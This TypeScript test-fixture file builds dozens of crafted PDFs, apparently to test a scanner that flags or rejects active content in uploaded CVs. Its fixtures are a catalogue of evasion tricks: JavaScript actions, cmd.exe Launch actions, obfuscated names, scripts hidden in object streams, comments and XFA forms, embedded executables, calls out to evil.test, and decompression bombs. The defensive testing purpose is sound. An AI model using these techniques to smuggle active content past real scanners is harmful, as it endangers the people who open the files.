import { deflateSync } from 'node:zlib';
import { buffer } from 'node:stream/consumers';
import PdfDocument from 'pdfkit';
import { objectStream, pdfWith } from './pdfs';

export type Made = readonly [words: string, name: string, make: () => Buffer | Promise<Buffer>];

const JS = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const LAUNCH = '<</S/Launch/F(cmd.exe)>>';

export const stream = (dictionary: string, bytes: string) =>
  `<<${dictionary}/Length ${bytes.length}>>\nstream\n${bytes}\nendstream`;
const pack = (text: string) => deflateSync(text).toString('latin1');

/** The object stream that opens 4 0 R, with other bytes between its dictionary and its content. */
const spaceOut = (between: string) =>
  objectStream([JS], 4).replace('>>\nstream', `>>${between}stream`);

export const xfa = (script: string) =>
  pdfWith(
    '/AcroForm<</Fields[]/XFA 4 0 R>>',
    stream('', `<xdp:xdp><template>${script}</template></xdp:xdp>`),
  );

/** Its objects have these numbers and offsets in front, as they are written here. */
function objectStreamWith(head: string, count: number, objects: string): string {
  const packedObjects = pack(head + objects);
  return stream(`/Type/ObjStm/N ${count}/First ${head.length}/Filter/FlateDecode`, packedObjects);
}

const rename = (by: string) =>
  Buffer.from(
    pdfWith('/OpenAction 4 0 R', LAUNCH).toString('latin1').replace('4 0 obj', by),
    'latin1',
  );

const inOtherPlace = (hidden: string) =>
  Buffer.from(pdfWith('/OpenAction 9 0 R', hidden).toString('latin1'), 'latin1');

export const pdf = (words: string, make: Made[2]): Made => [`a PDF ${words}`, 'cv.pdf', make];

async function encrypt(): Promise<Buffer> {
  const made = new PdfDocument({ ownerPassword: 'eigenaar', pdfVersion: '1.7' });
  const bytes = buffer(made);
  made.addNamedJavaScript('a', 'app.alert(1)');
  made.end();
  return bytes;
}

/** Without a table of contents, pages or a catalog. */
const breakAfter = (inside: string) =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n${inside}\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`);

export const activePdfs: readonly Made[] = [
  pdf('that is broken, with a script under another name', () =>
    breakAfter('<</S /J#61vaScript /JS 4 0 R>>'),
  ),
  pdf('that is broken, with a script for a film', () => breakAfter('<</S/Rendition/JS(x)>>')),
  pdf('that is broken, and opens elsewhere by a reference', () =>
    breakAfter('<</OpenAction 9 0 R>>endobj 9 0 obj\n<</S/URI/URI(http://evil.test)>>endobj'),
  ),
  pdf('that runs a script when it opens', () => pdfWith(`/OpenAction${JS}`)),
  pdf('with a script in a compressed object', () =>
    pdfWith('/OpenAction 4 0 R', objectStream([JS], 9)),
  ),
  pdf('with a script in an object stream by another spelling', () =>
    pdfWith('', objectStream([JS], 9).replace('/ObjStm', '/Obj#53tm')),
  ),
  pdf('with a NUL before the content of its object stream', () => pdfWith('', spaceOut('\0\n'))),
  pdf('with 600 blanks before the content of its object stream', () =>
    pdfWith('', spaceOut(' '.repeat(600))),
  ),
  pdf('with a comment before the content of its object stream', () =>
    pdfWith('', spaceOut('\n% x\n')),
  ),
  pdf('with an object stream that does not say that it is one', () =>
    pdfWith('', objectStream([JS], 9).replace('/Type/ObjStm', '')),
  ),
  pdf('with a script in a string', () => inOtherPlace(`(9 0 obj ${JS} endobj)`)),
  pdf('with a script in a comment', () => inOtherPlace(`null % 9 0 obj ${JS} endobj`)),
  pdf('with a script in a stream', () => inOtherPlace(stream('', `9 0 obj ${JS} endobj`))),
  pdf('with a script in an earlier revision', () =>
    Buffer.concat([pdfWith(`/OpenAction 4 0 R`, JS), pdfWith('/OpenAction 4 0 R', 'null')]),
  ),
  pdf('with a script under a name that is there twice', () =>
    pdfWith(`/OpenAction${JS}/OpenAction[3 0 R/Fit]`),
  ),
  pdf('with a script in a stream of its own', () =>
    pdfWith(
      '/OpenAction<</S/JavaScript/JS 4 0 R>>',
      stream('/Filter/FlateDecode', pack('app.alert(1)')),
    ),
  ),
  pdf('with a script in hexadecimal', () =>
    pdfWith('/OpenAction<</S/JavaScript/JS<6170702E616C657274>>>'),
  ),
  pdf('with a script by its name', () => pdfWith(`/Names<</JavaScript<</Names[(a) ${JS}]>>>>`)),
  pdf('with a script behind a harmless step', () =>
    pdfWith(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next ${JS}>>`),
  ),
  pdf('with a script behind one of a field', () =>
    pdfWith('', '<</S/JavaScript/JS(AFNumber_Format\\(2\\); this.submitForm\\(1\\))>>'),
  ),
  pdf('with a script in a text of a field', () =>
    pdfWith('', '<</S/JavaScript/JS(AFNumber_Format\\("a" + app.x\\))>>'),
  ),
  pdf('with a script when its page opens', () => pdfWith('', `<</AA<</O${JS}>>>>`)),
  pdf('with a script that is encrypted', encrypt),
  pdf('that starts a program when it opens', () => pdfWith(`/OpenAction${LAUNCH}`)),
  pdf('that starts a program at a click', () => pdfWith('', `<</Subtype/Link/A${LAUNCH}>>`)),
  pdf('that starts a program, in an object stream', () =>
    pdfWith('/OpenAction 9 0 R', objectStream([LAUNCH], 9)),
  ),
  pdf('that starts a program, by an object whose number has a point', () => rename('4. 0 obj')),
  pdf('that starts a program, by an object whose generation has a point', () => rename('4 0. obj')),
  pdf('that starts a program, by an object whose generation has a sign', () => rename('4 +0 obj')),
  pdf('that starts a program, behind a comment in the numbers of an object stream', () =>
    pdfWith('/OpenAction 9 0 R', objectStreamWith('8 0 %8 0\n9 5 ', 2, `null ${LAUNCH}`)),
  ),
  pdf('that fetches from elsewhere when it opens', () =>
    pdfWith('/OpenAction<</S/GoToR/F(\\\\\\\\evil.test\\\\x)>>'),
  ),
  pdf('that sends when its page opens', () =>
    pdfWith('', '<</AA<</O<</S/URI/URI(https://evil.test)>>>>>>'),
  ),
  pdf('that sends after going to a page', () =>
    pdfWith('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/SubmitForm/F(https://evil.test)>>]>>'),
  ),
  pdf('that opens what is attached', () => pdfWith('', '<</S/GoToE/T<</R/C>>>>')),
  pdf('with a program attached', () =>
    pdfWith(
      '/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>',
      '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
      stream('', 'MZ'),
    ),
  ),
  pdf('with a program attached under two names', () =>
    pdfWith('', '<</F(a.xml)/UF(a.exe)/EF<</F 5 0 R>>>>', stream('', 'MZ')),
  ),
  pdf('with another PDF attached at a place', () =>
    pdfWith(
      '',
      '<</Subtype/FileAttachment/FS<</F(b.pdf)/EF<</F 5 0 R>>>>>>',
      stream('', '%PDF-1.7'),
    ),
  ),
  pdf('with rich media', () => pdfWith('', '<</Subtype/RichMedia>>')),
  pdf('with a form of XFA that has a script', () =>
    xfa('<field><event><script>app.alert(1)</script></event></field>'),
  ),
  pdf('with a form of XFA that has a script by a prefix', () =>
    xfa('<x:script xmlns:x="y">app.alert(1)</x:script>'),
  ),
  pdf('with a form of XFA that sends', () =>
    xfa('<event activity="ready"><submit target="https://evil.test"/></event>'),
  ),
  pdf('with a form of XFA in parts', () =>
    pdfWith(
      '/AcroForm<</XFA[(a) 4 0 R(b) 5 0 R]>>',
      stream('', '<xdp><scr'),
      stream('', 'ipt>app.alert(1)</script></xdp>'),
    ),
  ),
];

/** A dictionary says that the file is encrypted, and another reader takes over. */
const encryptedWith = (...objects: readonly string[]) =>
  pdfWith('/OpenAction 9 0 R/Lang<</Encrypt 1>>', ...objects);

export const unreadablePdfs: readonly Made[] = [
  pdf('that is encrypted, with an object in a stream', () =>
    encryptedWith(stream('', `9 0 obj ${LAUNCH} endobj`)),
  ),
  pdf('that is encrypted, with an object in a comment', () =>
    encryptedWith(`null % 9 0 obj ${LAUNCH} endobj`),
  ),
  pdf('that is encrypted, with an object stream whose type is said elsewhere', () =>
    encryptedWith(objectStream([LAUNCH], 9).replace('/ObjStm', ' 5 0 R'), '/ObjStm'),
  ),
  pdf('without a page', () =>
    Buffer.from('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF'),
  ),
  pdf('with an object that ends nowhere', () => pdfWith('', '<</A [1 2')),
  pdf('with a word where no word is', () => pdfWith('/Lang foo/OpenAction 4 0 R')),
  pdf('with an object stream that hides its content', () =>
    pdfWith('', objectStream(['null'], 9).replace('/FlateDecode', '/LZWDecode')),
  ),
  pdf('with an object stream that unpacks to 17 MB', () =>
    pdfWith('', objectStream([' '.repeat(17_000_000)], 9)),
  ),
  pdf('with object streams that unpack to 80 MB', () =>
    pdfWith(
      '',
      ...Array.from({ length: 6 }, (_, at) =>
        objectStream([' '.repeat(14_000_000), 'null'], 20 + at * 2),
      ),
    ),
  ),
  pdf('with more levels than a parser has', () => pdfWith('', '['.repeat(200_000))),
  pdf('that a password closes', async () => {
    const made = new PdfDocument({ userPassword: 'geheim', ownerPassword: 'x', pdfVersion: '1.7' });
    const bytes = buffer(made);
    made.text('x').end();
    return bytes;
  }),
];
